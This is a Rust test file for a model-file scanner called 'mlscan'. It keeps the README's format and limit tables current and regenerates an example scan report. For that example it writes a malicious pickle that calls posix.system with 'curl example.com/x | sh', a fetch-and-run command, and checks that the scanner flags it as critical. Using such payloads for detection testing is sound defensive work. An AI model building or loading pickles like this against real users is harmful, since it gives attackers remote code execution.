//! The tables and the example of the README say what the program does. `MLSCAN_BLESS=1 cargo test` rewrites them.

#![allow(clippy::unwrap_used, clippy::panic, reason = "a test fails by panicking")]

use std::{
    fmt::Write as _,
    fs,
    process::Command,
    sync::{Mutex, PoisonError},
};

use mlscan::{
    bytes::Limits,
    formats::{FORMATS, Level},
};

const README: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/README.md");

/// Held while the page is read and written: tests run side by side.
static PAGE: Mutex<()> = Mutex::new(());

/// Compares what stands between two markers, or rewrites it.
fn check(marker: &str, table: &str) {
    let _page = PAGE.lock().unwrap_or_else(PoisonError::into_inner);
    let readme = fs::read_to_string(README).unwrap();
    let (begin, end) = (format!("<!-- {marker} -->\n"), format!("<!-- /{marker} -->"));
    let (before, rest) = readme.split_once(&begin).unwrap();
    let (now, after) = rest.split_once(&end).unwrap();
    if now != table && std::env::var_os("MLSCAN_BLESS").is_some() {
        fs::write(README, format!("{before}{begin}{table}{end}{after}")).unwrap();
    } else {
        assert_eq!(now, table, "README.md: MLSCAN_BLESS=1 cargo test --test readme rewrites it");
    }
}

fn formats() -> String {
    let mut table = String::from("| format | read | endings it is known by |\n|---|---|---|\n");
    for about in FORMATS.iter().map(|format| format.about()) {
        let level = match about.level {
            Level::Content => "content",
            Level::Structure => "structure",
            Level::Recognised => "recognised only",
        };
        let endings: Vec<String> = about.extensions.iter().map(|ending| format!("`.{ending}`")).collect();
        writeln!(table, "| {} | {level} | {} |", about.title, endings.join(" ")).unwrap();
    }
    table
}

fn limits() -> String {
    let mut table = String::from("| name | default | what is counted |\n|---|---|---|\n");
    for (name, value) in Limits::default().table() {
        let what = match name {
            "steps" => {
                "units of work: one for an opcode, a member, a field; more for a byte that a slow codec unpacks"
            }
            "members" => "members, in all archives of the file",
            "depth" => "containers within containers",
            "unpacked" => "bytes that unpacking gives, in all; also the bytes taken from standard input",
            "ratio" => "bytes that unpacking gives for each byte of input, once it has given 64 MiB",
            "facts" => "facts stated about the file, equal ones counted once",
            _ => panic!("tests/readme.rs does not know the limit {name}"),
        };
        writeln!(table, "| `{name}` | {value} | {what} |").unwrap();
    }
    table
}

/// The report on a pickle that runs a command, as a user would see it.
fn example() -> String {
    let folder = tempfile::tempdir().unwrap();
    let pickle = b"\x80\x04\x8c\x05posix\x8c\x06system\x93\x8c\x17curl example.com/x | sh\x85R.";
    fs::write(folder.path().join("model.pkl"), pickle).unwrap();
    let mut command = Command::new(env!("CARGO_BIN_EXE_mlscan"));
    command.args(["--color", "never", "model.pkl"]).current_dir(folder.path()).env_remove("MLSCAN_FAIL_ON");
    let report = String::from_utf8(command.output().unwrap().stdout).unwrap();
    format!("```text\n$ mlscan model.pkl\n{report}```\n")
}

#[test]
fn the_tables_are_current() {
    check("formats", &formats());
    check("limits", &limits());
}

#[test]
fn the_example_is_what_the_program_says() {
    let example = example();
    assert!(example.contains("critical") && example.contains("posix.system"), "{example}");
    check("example", &example);
}
